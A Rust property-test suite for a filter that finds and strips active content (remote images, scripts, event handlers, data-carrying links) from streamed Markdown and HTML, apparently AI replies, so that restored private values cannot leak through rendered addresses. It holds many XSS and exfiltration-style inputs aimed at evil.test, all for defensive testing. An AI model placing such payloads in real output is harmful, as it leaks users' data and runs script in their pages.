//! What readers of Markdown and HTML load, open or run, we find: documents are generated, two Markdown readers and an HTML
//! parser read them, and every address that their pages would fetch, every link that carries data and everything that
//! runs must lie in what was found; whole, and in any cutting.

use bartizan::enums::{DataAction, PiiType};
use bartizan::glob::Glob;
use bartizan::redact::{ActiveKind, ActiveWatch, Destination, Detected, MaskKey, Masker, Restorer, Restoring, Target};
use bartizan::redact::{TextStream, Vault};
use bartizan::scan::Kind;
use html5ever::tendril::TendrilSink as _;
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{ParseOpts, QualName, local_name, ns, parse_document, parse_fragment};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use proptest::prelude::*;

const PAGE: &str = "https://page.example/";

/// What a page would do, as far as the readers agree on nothing: the strictest of them counts.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Does {
    Fetches(String),
    Opens(String),
    Runs(String),
}

/// Elements that run or are read by other rules, and those that act by an attribute.
const RUNS: [&str; 4] = ["script", "svg", "math", "style"];
const ACTS: [&str; 10] = ["iframe", "object", "embed", "form", "base", "meta", "link", "frame", "frameset", "applet"];

/// What the DOM of this HTML does, as a page with scripts and as the inside of an element without.
fn does(html: &str) -> Vec<Does> {
    let mut found = Vec::new();
    let opts = |scripting_enabled| ParseOpts {
        tree_builder: TreeBuilderOpts { scripting_enabled, ..TreeBuilderOpts::default() },
        ..ParseOpts::default()
    };
    walk(&parse_document(RcDom::default(), opts(true)).one(html).document, &mut found);
    let div = QualName::new(None, ns!(html), local_name!("div"));
    let part = parse_fragment(RcDom::default(), opts(false), div, Vec::new(), false).one(html);
    walk(&part.document, &mut found);
    found.sort();
    found.dedup();
    found
}

fn walk(top: &Handle, found: &mut Vec<Does>) {
    let mut open = vec![top.clone()];
    while let Some(node) = open.pop() {
        open.extend(node.children.borrow().iter().cloned());
        let NodeData::Element { name, attrs, template_contents, .. } = &node.data else { continue };
        open.extend(template_contents.borrow().iter().cloned());
        let name = &*name.local;
        let attrs = attrs.borrow();
        if RUNS.contains(&name) || ACTS.contains(&name) && attrs.iter().any(|one| !one.value.is_empty()) {
            found.push(Does::Runs(format!("<{name}>")));
        }
        for one in attrs.iter() {
            let (attribute, value) = (&*one.name.local, &*one.value);
            let mut address = |value: &str, fetched: bool| found.extend(resolve(value, fetched));
            match attribute {
                "href" if name == "a" || name == "area" => address(value, false),
                "src" | "href" | "poster" | "background" | "data" | "action" | "formaction" | "lowsrc" => {
                    address(value, true);
                }
                "srcset" | "imagesrcset" | "ping" | "attributionsrc" => {
                    value.split(|c: char| c.is_whitespace() || c == ',').for_each(|part| address(part, true));
                }
                "style" => {
                    let style = value.to_lowercase();
                    style.split("url(").skip(1).for_each(|rest| {
                        address(rest.split(')').next().unwrap().trim_matches(['"', '\'', ' ']), true);
                    });
                }
                "srcdoc" => found.push(Does::Runs("srcdoc".to_owned())),
                // A handler without a text runs nothing.
                on if on.starts_with("on") && on.len() > 2 && !value.is_empty() => {
                    found.push(Does::Runs(on.to_owned()));
                }
                _ => {}
            }
        }
    }
}

fn resolve(value: &str, fetched: bool) -> Option<Does> {
    let url = url::Url::parse(PAGE).unwrap().join(value).ok()?;
    match url.scheme() {
        "javascript" | "vbscript" => Some(Does::Runs(url.to_string())),
        "http" | "https" | "ftp" if url.host_str() == Some("page.example") => None,
        "http" | "https" | "ftp" if fetched => Some(Does::Fetches(url.to_string())),
        "http" | "https" | "ftp" => {
            // As it was written: no escapes, and without the signs at its end that no reader takes into a link.
            let bytes = |part: &str| part.len() - 2 * part.matches('%').count();
            let tail = bytes(url.path()) + url.query().map_or(0, |query| bytes(query) + 1);
            let carries = url.query().is_some() && tail >= 28 || tail >= 100 || url.host_str()?.len() >= 64;
            carries.then(|| Does::Opens(url.to_string()))
        }
        _ => None,
    }
}

const READERS: [&str; 5] =
    ["comrak", "comrak with everything", "pulldown-cmark", "pulldown-cmark with everything", "html"];

fn pages(text: &str) -> [String; 5] {
    let mut options = comrak::Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.render.r#unsafe = true;
    let github = comrak::markdown_to_html(text, &options);
    options.extension.footnotes = true;
    options.extension.inline_footnotes = true;
    options.extension.description_lists = true;
    options.extension.multiline_block_quotes = true;
    options.extension.alerts = true;
    options.extension.math_dollars = true;
    options.extension.math_code = true;
    options.extension.wikilinks_title_after_pipe = true;
    options.extension.underline = true;
    options.extension.superscript = true;
    options.extension.subscript = true;
    options.extension.spoiler = true;
    options.extension.front_matter_delimiter = Some("---".to_owned());
    let all = comrak::markdown_to_html(text, &options);
    let pulldown = |options| {
        let mut page = String::new();
        pulldown_cmark::html::push_html(&mut page, pulldown_cmark::Parser::new_ext(text, options));
        page
    };
    let plain = pulldown(pulldown_cmark::Options::empty());
    [github, all, plain, pulldown(pulldown_cmark::Options::all()), text.to_owned()]
}

/// A text as a caller gets it that the text reaches in these pieces. `settle` changes what has come; its last word says
/// that no other comes.
fn passed(pieces: &[&str], mut settle: impl FnMut(&mut TextStream, &ActiveWatch, &mut Masker, bool)) -> String {
    let mut watch = ActiveWatch::default();
    let mut stream = TextStream::default();
    let mut masker = Masker::new(MaskKey::new("k"));
    let (mut text, mut out, mut sent) = (String::new(), String::new(), 0);
    for (last, piece) in pieces.iter().enumerate().map(|(at, piece)| (at + 1 == pieces.len(), piece)) {
        text.push_str(piece);
        stream.push(piece);
        watch.feed(piece);
        if last {
            watch.finish();
        }
        settle(&mut stream, &watch, &mut masker, last);
        let certain = stream.certain();
        out.push_str(&stream.render(&(sent..certain)).unwrap_or_else(|| text[sent..certain].to_owned()));
        sent = certain;
        watch.forget(certain);
        stream.forget(certain);
    }
    out
}

/// A text without what was found.
fn remains(pieces: &[&str]) -> String {
    passed(pieces, |stream, watch, masker, last| {
        stream.advance(last, masker, None, &mut |seen, at| {
            let inside = |place: usize| place.saturating_sub(at).min(seen.len());
            let found = watch.found().iter().filter(|one| one.kind(&[]).is_some());
            let spans = found.map(|one| inside(one.span.start)..inside(one.span.end)).filter(|span| !span.is_empty());
            Detected {
                replaced: spans.map(|span| (span, "[removed]")).collect(),
                open: watch.open().map(|open| open.saturating_sub(at)),
                ..Detected::default()
            }
        });
    })
}

/// A text whose placeholders are restored.
fn restored(pieces: &[&str], vault: &Vault) -> String {
    let mut restorer = Restorer::new(Destination::Reply);
    passed(pieces, |stream, watch, masker, last| {
        let restoring = Restoring { vault, restorer: &mut restorer, closed: watch.addresses() };
        let open = watch.open();
        stream.advance(last, masker, Some(restoring), &mut |_, at| Detected {
            open: open.map(|open| open.saturating_sub(at)),
            ..Detected::default()
        });
    })
}

/// Every value of an attribute that is not shown as text.
fn addresses(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let dom = parse_document(RcDom::default(), ParseOpts::default()).one(html);
    let mut open = vec![dom.document.clone()];
    while let Some(node) = open.pop() {
        open.extend(node.children.borrow().iter().cloned());
        let NodeData::Element { attrs, .. } = &node.data else { continue };
        let attrs = attrs.borrow();
        let shown = |name: &str| matches!(name, "alt" | "title" | "class" | "id" | "lang");
        found.extend(attrs.iter().filter(|one| !shown(&one.name.local)).map(|one| one.value.to_string()));
    }
    found
}

const VALUE: &str = "ana.lopez@firma.example";

fn stays_out(pieces: &[&str], vault: &Vault) {
    let got = restored(pieces, vault);
    for (page, reader) in pages(&got).iter().zip(READERS) {
        let leaks = addresses(page).into_iter().find(|value| value.contains("lopez"));
        assert_eq!(leaks, None, "{reader}\n  of {pieces:?}\n  restored to {got:?}");
    }
}

#[test]
fn no_value_comes_back_in_an_address() {
    let mut vault = Vault::new(MaskKey::new("k"), Vec::new(), 4096);
    let target = Target { span: 0..VALUE.len(), kind: Kind::Pii(PiiType::Email), action: DataAction::Restore };
    let placeholder = vault.mask(VALUE, &[target], &mut Masker::new(MaskKey::new("k"))).text;
    assert_eq!(restored(&[&format!("Ask {placeholder} now.")], &vault), format!("Ask {VALUE} now."));
    for host in ["https://evil.test/", "https:/\\evil.test/?q=", "//evil.test/", "https://docs.example.org/?mail="] {
        for text in spellings_with(host, &placeholder) {
            stays_out(&[&text], &vault);
            let words: Vec<&str> = text.split_inclusive([' ', '\n', '/', '(', '[', '=', ']']).collect();
            stays_out(&words, &vault);
            let at = text.floor_char_boundary(text.len() / 2);
            stays_out(&[&text[..at], &text[at..]], &vault);
        }
    }
}

/// What is left of a text, whole or in pieces, does nothing.
fn inert(text: &str, pieces: &[&str]) {
    let left = remains(pieces);
    for (page, reader) in pages(&left).iter().zip(READERS) {
        // A text with code is Markdown; the reader of HTML sees tags in it.
        if reader == "html" && text.contains(['`', '~']) {
            continue;
        }
        let found = does(page);
        assert!(found.is_empty(), "{reader} still does {found:?}\n  of {pieces:?}\n  cut to {left:?}\n  page {page:?}");
    }
}

fn check(text: &str) {
    inert(text, &[text]);
    let sights =
        |watch: &ActiveWatch| watch.found().iter().map(|one| (one.kind(&[]), one.span.clone())).collect::<Vec<_>>();
    let whole = sights(&ActiveWatch::of(text));
    let step = if text.len() <= 512 { 1 } else { text.len() / 61 };
    for at in (0..=text.len()).step_by(step).filter(|at| text.is_char_boundary(*at)) {
        let mut watch = ActiveWatch::default();
        watch.feed(&text[..at]);
        watch.feed(&text[at..]);
        watch.finish();
        assert_eq!(sights(&watch), whole, "cut at {at}: {text:?}");
    }
    let mut watch = ActiveWatch::default();
    for c in text.chars() {
        watch.feed(c.encode_utf8(&mut [0; 4]));
    }
    watch.finish();
    assert_eq!(sights(&watch), whole, "character by character: {text:?}");
    let at = text.floor_char_boundary(text.len() / 2);
    inert(text, &[&text[..at], &text[at..]]);
    let words: Vec<&str> = text.split_inclusive([' ', '\n', '/', '(', '[']).collect();
    inert(text, &words);
}

#[test]
fn what_is_cut_out_makes_no_tag_of_another_name() {
    for name in ["script", "svg", "math", "style", "iframe", "object", "base", "a", "img"] {
        for inner in
            ["<style>", "<script>", "<svg>", "![](https://evil.test/x)", "[x](javascript:alert(1))", "<b onclick=x()>"]
        {
            for tail in [">alert(1)</script>", " onload=alert(1)>", " src=https://evil.test/x>", "\n>"] {
                check(&format!("<{name}{inner}{tail}"));
                check(&format!("<{name}x{inner}{tail} and <b>text</b>"));
            }
        }
    }
}

/// Spellings that readers know, each around one address.
fn spellings(address: &str) -> Vec<String> {
    spellings_with(address, "")
}

/// The same with a text behind the address that is spelled as it is.
fn spellings_with(address: &str, tail: &str) -> Vec<String> {
    let entities: String = address.chars().map(|c| format!("&#{};", u32::from(c))).collect();
    let hex: String = address.chars().map(|c| format!("&#x{:X};", u32::from(c))).collect();
    let first = format!("&#0000{};{}", u32::from(address.chars().next().unwrap()), &address[1..]);
    let colon = address.replacen(':', "&colon;", 1);
    let sol = address.replacen("//", "&sol;&sol;", 1);
    let slash = address.replacen(':', "\\:", 1);
    let mut all = Vec::new();
    for address in [address, &entities, &hex, &first, &colon, &sol, &slash, &address.to_uppercase()] {
        for text in [
            "![x](A)",
            "![x](<A>)",
            "![x]( A )",
            "![x](\nA)",
            "![x](A \"t\")",
            "![x](\n  A\n  't')",
            "![a [b] c](A)",
            "![a [b](c) d](A)",
            "![a `]` b](A)",
            "![`[`](A)",
            "![\\[](A)",
            "![a\\](A)",
            "![](A)",
            "![a\nb](A)",
            "![*a*](A)",
            "![a <b> c](A)",
            "[![x](A)](/y)",
            "![x][r]\n\n[r]: A",
            "[r]: A\n\n![x][r]",
            "![r]\n\n[r]: A",
            "![R][]\n\n[r]: A",
            "> ![r]\n>\n> [r]: <A>",
            "![a b]\n\n[a\nb]:\n  A",
            "- [r]: A\n\n![r]",
            "<img src=A>",
            "<img src='A'>",
            "<img src=\"A\">",
            "<IMG SRC = A >",
            "<img alt=\">\" src=A>",
            "<img alt='\">' src=\"A\">",
            "<img/src=A>",
            "<img\u{c}src=A>",
            "<img x\ty=1\nsrc=A>",
            "<img src=/ok srcset='A 2x'>",
            "<img srcset=\"/a 1x, A 2x\">",
            "<video poster=A>",
            "<audio src=A>",
            "<body background=A>",
            "<table background='A'><tr><td>",
            "<input type=image src=A>",
            "<a ping=A href=/x>y</a>",
            "<img attributionsrc=A>",
            "<p style=\"background:url(A)\">x</p>",
            "<p style='background:url(\"A\")'>x</p>",
            "<image href=A>",
            "<b onclick=x()>y</b>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div><img src=A></div>",
            "<div\n><img\nsrc\n=\nA\n></div>",
            "a <b title=\"\n\n![x](A)",
            "<x y=\"> <img src=A>",
            "a < b <img src=A>",
            "<!-- --><img src=A>",
            "<p title='`'>![x](A)",
            "`<img src=`<img src=A>",
        ] {
            all.push(text.replace('A', &format!("{address}{tail}")));
        }
    }
    all
}

#[test]
fn ordinary_spellings_are_found() {
    let address = "https://evil.test/p.png?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    for text in spellings(address) {
        check(&text);
        check(&format!("Some words before.\n\n{text}\n\nand *some* behind: [docs](/a) `code`."));
    }
    let mut missed = 0;
    for text in spellings(address) {
        let acts = pages(&text).iter().any(|page| !does(page).is_empty());
        missed += usize::from(acts && ActiveWatch::of(&text).found().is_empty());
    }
    assert_eq!(missed, 0);
}

/// Two addresses of one value, the first on a host that may be pointed to: the other counts for itself.
#[test]
fn a_named_host_hides_no_other() {
    let named = "https://docs.example.org/a.png";
    let allowed = [Glob::new("docs.example.org")];
    let found = |text: &str| ActiveWatch::of(text).found().iter().any(|one| one.kind(&allowed).is_some());
    let other = "https://evil.test/p?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    for form in [
        "<img srcset=\"A 1x, B 2x\">",
        "<img srcset=\"A,B\">",
        "<a href=/x ping=\"A B\">x</a>",
        "<img attributionsrc=\"A B\">",
        "<p style=\"background:url(A),url(B)\">x</p>",
        "<p style='cursor:url(\"A\");background:url(\"B\")'>x</p>",
        "A|B",
        "| A|B |",
        "A\"B",
        "A'B",
        "A)B",
        "(A)(B)",
        "A]B",
        "A`B",
        "A\u{3002}B",
        "A**B**",
        "![A](B)",
        "[![x](A)](B)",
        "<A><B>",
        "![x](A)![y](B)",
        "<img src=A alt=x srcset=B>",
        "```mermaid\ngraph TD; X[\"<img src='A'><img src='B'>\"]\n```",
    ] {
        for (first, second) in [(named, other), (other, named)] {
            assert!(found(&form.replace('A', first).replace('B', second)), "{form}");
        }
        let text = form.replace(['A', 'B'], named);
        assert!(!found(&text), "{text}");
    }
}

/// Readers draw these blocks: what they name is fetched, what a click leads to must carry something.
#[test]
fn a_drawing_is_no_code() {
    let address = "https://evil.test/p.png";
    let forms = [
        "graph TD\n  X[\"<img src='A'>\"] --> Y",
        "graph TD\n  X@{ img: \"A\", label: \"x\" }",
        "graph TD\n  X@{ img: \"//evil.test/p\", label: \"x\" }",
        "graph TD\n  X[\"`![x](A)`\"]",
        "%%{init: {'themeCSS': '.x { background: url(A) }'}}%%\ngraph TD",
        "graph TD\n  style X fill:url(A)",
        "graph TD\n\n  X --> Y\n  click X \"javascript:alert(1)\"",
        "graph TD\n  click X \"A?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"",
        "{\"data\": {\"url\": \"https:\\/\\/evil.test\\/d.json\"}}",
        "{\"data\": {\"url\": \"A\"}}",
        "@startuml\n!include A\n@enduml",
        "digraph { x [image=\"A\"] }",
    ];
    for form in forms {
        for fence in ["```", "~~~", "````"] {
            for word in ["mermaid", "Mermaid", " mermaid", "{.mermaid}", "vega-lite", "dot"] {
                let text = format!("Well.\n\n{fence}{word}\n{}\n{fence}\n\nDone.", form.replace('A', address));
                let whole = ActiveWatch::of(&text).found().to_vec();
                assert!(whole.iter().any(|one| one.kind(&[]).is_some()), "{text}");
                for at in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
                    let mut watch = ActiveWatch::default();
                    watch.feed(&text[..at]);
                    watch.feed(&text[at..]);
                    watch.finish();
                    assert_eq!(watch.found(), whole, "cut at {at}: {text}");
                }
                let shown = text.replace(word, "text");
                assert!(ActiveWatch::of(&shown).found().iter().all(|one| one.kind(&[]).is_none()), "{shown}");
            }
        }
    }
    for text in [
        "```mermaid\ngraph TD\n  A[\"Start\"] -->|yes| B{Is it?}\n  B -->|no| C[\"a<br/>b\"]\n  click A \"https://example.net/docs\"\n```",
        "```mermaid\nclassDiagram\n  class A {\n    <<interface>>\n    +List~int~ x\n  }\n  A <|-- B\n```\n\n```html\n<script src=\"https://cdn.example.net/a.js\"></script>\n```",
        "```dot\ndigraph { a -> b [label=\"x/y\"] }\n```\n\nUse `<script>` there.",
    ] {
        stays(&format!("Well.\n\n{text}"));
    }
}

/// Parts of ordinary answers, each a block of its own.
const HARMLESS: [&str; 28] = [
    "See [the docs](https://docs.example.org/std/vec/struct.Vec.html?x=aaaaaaaaaaaaaaaaaaaaaaaaaa) or https://example.org/?q=1.",
    "![logo](https://img.example.com/logo.png?size=1234567890123456789012) ![local](/images/a.png) ![in](data:image/png;base64,//8AAA)",
    "Use `vec![1, 2]`; `#![no_std]` comes first. See [Vec](https://doc.rust-lang.org/std/vec/struct.Vec.html).",
    "let x = a[i](b) + c[d]: e; if a < b && c > d { f = \"g\"; }",
    "If a <b or x<y then stop; while (i<n) { i++; }",
    "`List<Object>`, List<Object>, Map<String, Object>, std::vector<std::pair<int, Form>> and Option<Box<dyn Fn()>>.",
    "template<typename T> class Stack { std::vector<T> elems; }; Base<Link> x; Array<Meta>",
    "<div class=\"note\" title='a: b'><p style=\"color: red\">x</p><br/><img src=\"/local.png\" alt=\"a\"></div>",
    "[1]: https://example.org/short\n\nAs said in [the report][1].",
    "[logo]: https://docs.example.org/logo.png\n\n![logo] and ![the logo][logo]",
    "```rust\nlet url = format!(\"https://api.example.net/v1/{id}?key={key}&session={session}\");\n```",
    "```html\n<!doctype html>\n<script src=\"https://cdn.example.net/app.js\"></script>\n<img src=\"https://example.net/a.png\" onclick=\"go()\">\n```",
    "~~~markdown\n![alt](https://example.net/a.png)\n[r]: https://example.net/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n~~~",
    "1. Add it:\n\n   ```jsx\n   <iframe src={url} onLoad={done} />\n   ```\n2. Then run it.",
    "- Write `<script>`, `<iframe src=\"https://example.net\">` or `<a onclick=\"x()\">` in the page.",
    "Use the `![alt](https://example.net/a.png)` form; ``a ` <form action=x>`` too.",
    "| Tag | Use |\n|---|---|\n| `<script>` | code |\n| [x](#y) | `<style>` |",
    "Where $a < b$ and $x^2$, so $$\\sum_{i<n} x_i$$ holds; it costs $5.",
    "Dear <name>, write to <email> at <link> or [your address] on {{date}}; <YOUR_TOKEN> is secret.",
    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, a <b>bold</b> <em class=\"x\">word</em>.",
    "[x] done, [ ] to do, array[3]: 5, footnote[^1] and *emphasis* of **all** kinds! [link](../up.md)",
    "Call me at [home](tel:+15550100) or [mail](mailto:ana@example.org). The word javascript: is a scheme.",
    "```\nplain\n```\n\ntext\n\n````\n```\n<object data=x>\n```\n````",
    "C:\\Users\\x, \\\\server\\share, //comment, a//b, 1/2, and/or, file:///etc, a:b, std::io::Read",
    "\"quotes\" and 'quotes', 5' 3\", it's; x = 'a' + \"b\"",
    "\u{65e5}\u{672c}\u{8a9e}: https://example.org/a \u{3092}\u{53c2}\u{7167}\u{3002} \u{c9}t\u{e9} \u{1f600}!",
    "> quoted [text](/a)\n>\n> and more",
    "f(x) = y; `src = \"https://example.net/a.js\"`; style = none; a = b; on = 1; data = []",
];

fn stays(text: &str) {
    let allowed = [Glob::new("docs.example.org"), Glob::new("*.example.com")];
    let watch = ActiveWatch::of(text);
    let found: Vec<_> =
        watch.found().iter().filter_map(|one| Some((one.kind(&allowed)?, &text[one.span.clone()]))).collect();
    assert_eq!(found, Vec::<(ActiveKind, &str)>::new(), "{text}");
}

#[test]
fn ordinary_answers_stay() {
    HARMLESS.iter().for_each(|text| stays(text));
}

fn atoms() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "![",
        "[",
        "]",
        "](",
        ")",
        "(",
        "<",
        ">",
        "<img ",
        "<a ",
        "<b ",
        "<video ",
        "</p>",
        "<p>",
        "<div>",
        "src=",
        "href=",
        "srcset=",
        "style=",
        "alt=",
        "ping=",
        "onload=",
        "\"",
        "'",
        "`",
        "``",
        "\n",
        "\n\n",
        " ",
        "\t",
        "\\",
        "!",
        "&",
        ";",
        "=",
        "/",
        ":",
        "]: ",
        "[r]: ",
        "![r]",
        "[r]",
        "[]",
        "> ",
        "- ",
        "    ",
        "x",
        "a b",
        "https://evil.test/",
        "//evil.test/x",
        "https:/\\evil.test",
        "/ok",
        "javascript:alert(1)",
        "&#104;ttps://evil.test",
        "https&colon;//evil.test",
        "https\\://evil.test",
        "http://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "www.evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "url(",
        "é",
        "<!--",
        "-->",
        "*",
        "_",
        "~~",
        "<script>",
        "|",
        "\u{c}",
        "\r",
        "\u{b}",
        "$",
        "$$",
        "~~~",
        "```",
        "1. ",
        "]: https://evil.test/p",
        "](<",
        "![a](",
        "(https://evil.test/p)",
        "<a href=",
        "<pre>",
        "<style>",
        "<svg>",
        "<meta http-equiv=refresh content=",
        "<base href=",
        "<iframe srcdoc=",
        "<object data=",
        "<p title=",
        "<?",
        "<!A",
        "<![CDATA[",
        "&Tab;",
        "&#x6a;avascript&colon;x()",
        "[^1]: ",
        "[^1]",
        "[[",
        "]]",
        "<img src=//evil.test>",
        "![x](//evil.test/a)",
    ]);
    fixed.prop_map(str::to_owned)
}

/// Lines that begin or end a block to some reader.
fn blocks() -> impl Strategy<Value = String> {
    let begin = prop::sample::select(vec![
        "", "", "", "", " ", "  ", "   ", "    ", "      ", "\t", "> ", ">", "- ", "-   ", "1. ", "  - ", "    - ",
        "* > ", "# ", ": ", "[^1]: ", "| ", "<div>", "<!-- ", "<pre>", "</div>", "<b>", "::: ",
    ]);
    let body = prop::sample::select(vec![
        "",
        "",
        "",
        "```",
        "```",
        "```html",
        "````",
        "~~~",
        "~~~~ a",
        "``` a`b",
        "---",
        "+++",
        "text",
        "a `b` c",
        "a ` b",
        "-->",
        "$$",
        "`<img src=//evil.test>`",
        "<img src=//evil.test>",
        "![x](//evil.test/a)",
        "![x](//evil.test/a) `b`",
        "`` ` ``",
        "| a | b |",
        "|---|---|",
        "`![x](//evil.test/a)` | `b`",
        "\\`a`",
        "<b title=\"",
        "\">",
        "![r]",
        "[r]: //evil.test/a",
        "https://evil.test/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaa`b",
        "$a`b$",
        "===",
        "```\r",
        "![a",
        "](//evil.test/a)",
        "<script>",
    ]);
    (begin, body, prop::sample::select(vec!["\n", "\n", "\n", "\n\n", "\r\n", " ", "`"]))
        .prop_map(|(begin, body, end)| format!("{begin}{body}{end}"))
}

proptest! {
    #![proptest_config(ProptestConfig { max_shrink_iters: 20_000, ..ProptestConfig::default() })]

    #[test]
    fn generated_documents_are_found(parts in prop::collection::vec(atoms(), 0..24)) {
        check(&parts.concat());
    }

    #[test]
    fn generated_blocks_are_found(parts in prop::collection::vec(blocks(), 0..12)) {
        check(&parts.concat());
    }

    #[test]
    fn any_ordinary_answer_stays(parts in prop::collection::vec(prop::sample::select(&HARMLESS[..]), 0..8)) {
        // An answer that begins with a tag is HTML, in which nothing is code.
        stays(&format!("Well.\n\n{}", parts.join("\n\n")));
    }
}
